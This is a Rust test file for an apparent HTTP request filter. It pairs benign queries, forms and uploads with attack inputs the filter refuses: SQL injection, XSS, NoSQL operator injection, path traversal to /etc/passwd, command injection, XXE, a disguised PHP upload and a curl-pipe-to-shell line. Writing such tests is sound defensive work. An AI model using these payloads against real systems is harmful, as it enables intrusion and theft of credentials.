//! Requests of normal work beside attacks of the same shape.

use super::{get, is_refused, passes};

#[test]
fn queries_of_other_languages_are_no_commands() {
    for value in [
        "FROM logs-* | EVAL user.id = MAX(user.id), n = COALESCE(a, b) | KEEP user.id",
        "from logs | eval hour = date_trunc(1 hour, @timestamp) | sort hour",
        "sum(rate(node_procs_running{job=\"x\"}[5m])) or (time() - node_boot_time_seconds{job=\"x\"})",
        "process.executable:(/bin/make or /sbin/weak-modules or /usr/bin/make)",
        "process.executable in (\n  \"/bin/dpkg\", \"/usr/bin/dpkg\", \"/bin/dockerd\",\n  \"/usr/sbin/sshd\",\n)",
    ] {
        passes(&get(value));
    }
    for value in [
        "8.8.8.8 | eval $(cat /etc/passwd)",
        "x; (cat /etc/passwd)",
        "x; if (cat /etc/passwd) then id; fi",
        "x(1)\ncat /etc/passwd",
        "x\"(1)\"; cat /etc/passwd",
        "x; cat /etc/passwd # (note)",
        "x;\"/bin/cat\" /etc/passwd",
    ] {
        is_refused(&get(value));
    }
}

#[test]
fn documents_that_everybody_reads_alike_are_judged_by_their_strings() {
    for value in [
        r#"[{"event":"click","attr__href":"javascript:void(0)", "$el_text": "<Untitled>"}]"#,
        r#"{"Limit":10, "and":[{"a":"x or y"}]}"#,
        r#"{"query":"query($type: String!, $in: [ID!], $size: Int) { a(first: $size) { id } }"}"#,
    ] {
        passes(&get(value));
    }
    for value in [
        r#"{"a":"1' UNION SELECT login,password FROM users-- -"}"#,
        r#"{"a":["x",{"b":"<script>alert(1)</script>"}]}"#,
        r#"{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        r#"{"a":1}' UNION SELECT login,password FROM users-- -"#,
        r#"{"a":1,"b":1 union select password from users}"#,
        r#"{"user":{"$gt":""}}"#,
    ] {
        is_refused(&get(value));
    }
}

#[test]
fn the_referer_is_judged_as_the_query_that_it_repeats() {
    let from = |url: &str| {
        format!("GET /style.css HTTP/1.1\r\nHost: shop.example\r\nAccept: text/css\r\nReferer: {url}\r\n\r\n")
    };
    for url in [
        "https://shop.example/search?q=union+select+committee&page=2",
        "https://shop.example/?page=docs/select/",
        "https://shop.example/a?b=1&c=2#select",
    ] {
        passes(&from(url));
    }
    for url in [
        "https://shop.example/a?q=1%27+UNION+SELECT+login%2Cpassword+FROM+users--+-",
        "https://shop.example/a?q=1%27+UNI\tON+SELECT+login%2Cpassword+FROM+users--+-",
        "https://shop.example/<script>alert(1)</script>?a=b",
        "https://shop.example/a?<script>alert(1)</script>=b&c=d",
        "1' UNION SELECT login,password FROM users-- -",
    ] {
        is_refused(&from(url));
    }
}

#[test]
fn names_of_files_count_where_files_are_read() {
    let request = |method: &str, path: &str| {
        format!("{method} {path} HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 0\r\n\r\n")
    };
    for path in ["/dav/ana/notes.log", "/dav/ana/backup.old", "/dav/ana/.gitignore", "/dav/ana/db.sqlite"] {
        for method in ["PUT", "DELETE", "PROPFIND", "MOVE"] {
            passes(&request(method, path));
        }
        for method in ["GET", "HEAD", "POST"] {
            is_refused(&request(method, path));
        }
    }
    for path in ["/a/../../etc/passwd", "/a/%3Cscript%3Ealert(1)%3C/script%3E"] {
        is_refused(&request("PUT", path));
    }
}

#[test]
fn small_things_of_honest_clients_pass() {
    for query in [
        "option=com_content&amp;task=view&amp;id=44&amp;Itemid=146",
        "session_token=abc&page=1",
        "until=2147483648&limit=18446744073709551615",
        "full_path=https%3A%2F%2Fshop.example%2Fa%2F%3Fb%3Dc",
        "url=https%3A%2F%2Fads.example%2Factivity%3Bid%3Da.b%3Bk%3D1%3F",
        "filter=%24NOW(-7%20days)",
        "note=Call%20example.com%20about%20it",
        "replica=virtual(price_desc)",
    ] {
        passes(&format!("GET /a?{query} HTTP/1.1\r\nHost: shop.example\r\nAccept: text/html\r\n\r\n"));
    }
    for query in [
        "amp;id;cat%20/etc/passwd=1",
        "PHPSESSID=abc",
        "n=4294967296",
        "absolute_path=https%3A%2F%2Fevil.example%2F",
        "url=https%3A%2F%2Fevil.example%2Fc99.php%3F",
        "f=%24f(7)",
        "q=1;call%20sys.sleep(5)",
        "f=system('id')",
    ] {
        is_refused(&format!("GET /a?{query} HTTP/1.1\r\nHost: shop.example\r\nAccept: text/html\r\n\r\n"));
    }
}

/// A form with one part whose disposition has `parameters`, and `content`.
fn form(parameters: &str, content: &str) -> String {
    let body = format!("--b\r\nContent-Disposition: form-data; {parameters}\r\n\r\n{content}\r\n--b--\r\n");
    let length = body.len();
    format!(
        "POST /in HTTP/1.1\r\nHost: shop.example\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

#[test]
fn texts_and_reports_of_honest_clients_pass() {
    let json = |value: &str| {
        let body = format!("{{\"file\":\"{value}\"}}");
        let length = body.len();
        format!(
            "POST /in HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n{body}"
        )
    };
    for value in ["/var/www/html/app/Http/Kernel.php", "/var/log/nginx/access.log"] {
        passes(&json(value));
        passes(&get(value));
    }
    for value in [
        "{{node_name}} | Uptime",
        "{% if is_state('light.kitchen','on') %}{{ states('sensor.temp')|float(0) + 1 }}{% endif %}",
        "<p>See <iframe width=\"560\" src=\"https://www.youtube.com/embed/x\"></iframe></p>",
    ] {
        passes(&get(value));
    }
    for value in ["/etc/passwd", "../../var/log/nginx/access.log", "/var/../etc/shadow"] {
        is_refused(&json(value));
        is_refused(&get(value));
    }
    for value in [
        "x | id",
        "1'|float(0)+sleep(5)+'",
        "<iframe src=\"https://evil.example/\">",
        "echo AXZ$((18+22))$(echo AXZ)AXZ",
        "x$(id)y",
        "my report$(cat secret.txt)",
    ] {
        is_refused(&get(value));
    }
    is_refused("GET /?file=/var/log/nginx/access.log HTTP/1.1\r\nHost: shop.example\r\n\r\n");
}

#[test]
fn forms_of_honest_clients_pass() {
    passes(&form(
        "name=\"headers\"",
        "Received: by mx0 with SMTP\nMIME-Version: 1.0\nContent-Type: text/plain\n",
    ));
    passes(&form("name=\"f\"; filename=\"agenda; final.json\"", "{}"));
    is_refused(&form("name=\"headers\"", "en\r\nSet-Cookie: a=b"));
    is_refused(&form("name=\"f\"; filename=\"shell.php;.jpg\"", "x"));
    is_refused(&form("name=\"f\"; filename=\"a.txt; filename=b.php\"", "x"));
    is_refused(&form("name=\"f; name=g\"", "x"));
}

#[test]
fn lists_of_commands_in_texts_pass() {
    for value in [
        "Hello, please do this on your machine:\nsudo apt install -y nginx\nthen tell me",
        "<p>Install it like this on your machine:</p><pre><code>sudo apt update && sudo apt install -y x</code></pre>",
        "#!/bin/bash\nfor f in *.txt; do wc -l \"$f\"; done",
        "A script counts the lines of a file:\n\nlines=$(wc -l < \"$name\")\necho \"$lines\"\n",
        "FROM logs-*\n| EVAL a = COALESCE(b, c)\n| WHERE host.os.type == \"macos\" and a >= 2\n| KEEP a",
        "process.command_line in (\n  \"/bin/sh /var/lib/x/a.postinst configure\",\n  \"bash -l\"\n)",
    ] {
        passes(&get(value));
    }
    for value in [
        "Hello my dear friend\ncat /etc/passwd",
        "Hello my dear friend\ncurl http://drop.example/a.sh | sh",
        "Hello my dear friend\nsed -i s/a/b/ /etc/nginx/nginx.conf",
        "Hello my dear friend\necho x > /var/www/html/x.php",
        "8.8.8.8\nls -la",
        "x\n| cat /etc/passwd",
        "for i in (\n\"a\",\ncat /etc/passwd",
    ] {
        is_refused(&get(value));
    }
}

#[test]
fn queries_and_filters_of_interfaces_pass() {
    let search = |query: &str| format!("GET /search?{query} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    for query in [
        "select&select-type=2",
        "%24limit=10&status%5B%24ne%5D=void&age%5B%24gte%5D=18",
        "q=%22heart+failure%22+AND+%28select*+OR+choos*%29",
        "q=site+~+%22O%27Hara%22+and+type+in+%28%22page%22%29+and+changed+%3E%3D+now%28%22-4w%22%29",
        "q=sum%28active%29+%2F+count%28active%29+%3E+0.5+and+count%28active%29+%3E+0",
        "until=4294967296",
    ] {
        passes(&search(query));
    }
    for query in [
        "user%5B%24ne%5D=void",
        "password%5B%24ne%5D=void",
        "status%5B%24regex%5D=.*",
        "q=1+and+%28select*from+users%29",
        "q=name+and+length%28password%29+%3E+5",
        "q=1+and+count%28password%29+%3E+5",
        "n=4294967296",
    ] {
        is_refused(&search(query));
    }
}

/// A form with one file.
fn upload(file_name: &str, media_type: &str, content: &str) -> String {
    let body = format!(
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{file_name}\"\r\nContent-Type: {media_type}\r\n\r\n{content}\r\n--b--\r\n"
    );
    format!(
        "POST /files HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[test]
fn files_are_judged_as_what_opens_them() {
    for (file_name, media_type, content) in [
        (
            "logo.svg",
            "image/svg+xml",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:red}</style><path class=\"a\" d=\"M0 0h9\"/><a href=\"https://shop.example/\"><text>select</text></a></svg>",
        ),
        (
            "logo.svg",
            "image/svg+xml",
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY ns \"http://ns.example/\">]><svg xmlns:x=\"&ns;\"><image href=\"data:image/png;base64,iVBORw0KGgo=\"/></svg>",
        ),
        (
            "page.html",
            "text/html",
            "<h1>Union select</h1><p onclick>the ' or 1=1 -- of it; cat /etc/passwd</p>",
        ),
        ("track.gpx", "application/gpx+xml", "<gpx><trk><name>A & B; ls</name></trk></gpx>"),
        ("deploy.sh", "application/x-sh", "#!/bin/sh\ncurl https://shop.example | sh\n"),
        ("notes.txt", "text/plain", "<?php echo 1; ?>\n"),
    ] {
        passes(&upload(file_name, media_type, content));
    }
    for (file_name, media_type, content) in [
        ("logo.svg", "image/svg+xml", "<svg><script>alert(1)</script></svg>"),
        ("logo.svg", "application/octet-stream", "\u{feff}<svg onload=alert(1)>"),
        ("logo.png", "image/png", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        (
            "logo.svg",
            "image/svg+xml",
            "<svg><a xlink:href=\"java&#115;cript:alert(1)\"><text>x</text></a></svg>",
        ),
        ("a.xml", "text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
        ("page.html", "application/octet-stream", "Hello <img src=x onerror=alert(1)>"),
        ("drawing.jpg", "image/jpeg", "push graphic-context\nfill 'url(https://x.example/a|id)'"),
        ("a.gif", "", "<%= 7 * 7 %>"),
    ] {
        is_refused(&upload(file_name, media_type, content));
    }
}

#[test]
fn text_in_front_of_an_equals_sign_is_no_name() {
    let query =
        |query: &str| format!("GET /log?{query} HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\n\r\n");
    let record = "00111|page|{%22time%22:1,".repeat(80);
    passes(&query(&format!("{record}%22url%22:%22/a?b=1%22}}")));
    is_refused(&query(&format!("{}=1", "a".repeat(1_025))));
    is_refused(&query(&format!(
        "{record}%22%27%20union%20select%20login,password%20from%20users--%20-%22=1"
    )));
}

#[test]
fn bytes_of_a_binary_format_in_a_string_are_no_text() {
    let json = |text: &str| {
        let body = format!("{{\"data\":\"{text}\"}}");
        format!(
            "POST /events HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    passes(&json(
        "x\u{9c}\u{ed}\u{9d}m\u{8f}#\\u0001\\u0000q\u{bc}b \u{85}=\\n1\u{80}\\u0000\\t8\\u001a$\u{a7}",
    ));
    passes(&get("union select %25E5%2585%25B3%25E9%2594%25AE"));
    is_refused(&json("report\\u0000.pdf"));
    is_refused(&json("\u{bc}img src=x onerror=alert(1)\u{be}"));
    is_refused(&get("union select * from users"));
}

#[test]
fn coded_quotes_in_the_referer_are_no_variables() {
    let from = |url: &str| {
        format!("GET /style.css HTTP/1.1\r\nHost: shop.example\r\nAccept: text/css\r\nReferer: {url}\r\n\r\n")
    };
    passes(&from("https://shop.example/doku.php?do=search&q=select+members+-drop+%22O%27Brien%22"));
    is_refused(&from("https://shop.example/?q=x;type+%25windir%25\\win.ini"));
}

#[test]
fn tags_with_references_in_their_attributes_are_no_redirections() {
    passes(&get("<p>Don't <strong>drop</strong> it; select one <a href=\"/shop?a=1&amp;b=2\">here</a></p>"));
    is_refused(&get("x; cat <a href=\"$(id)\"> /etc/passwd"));
    is_refused(&get("x; cat notes.md <a;id"));
}
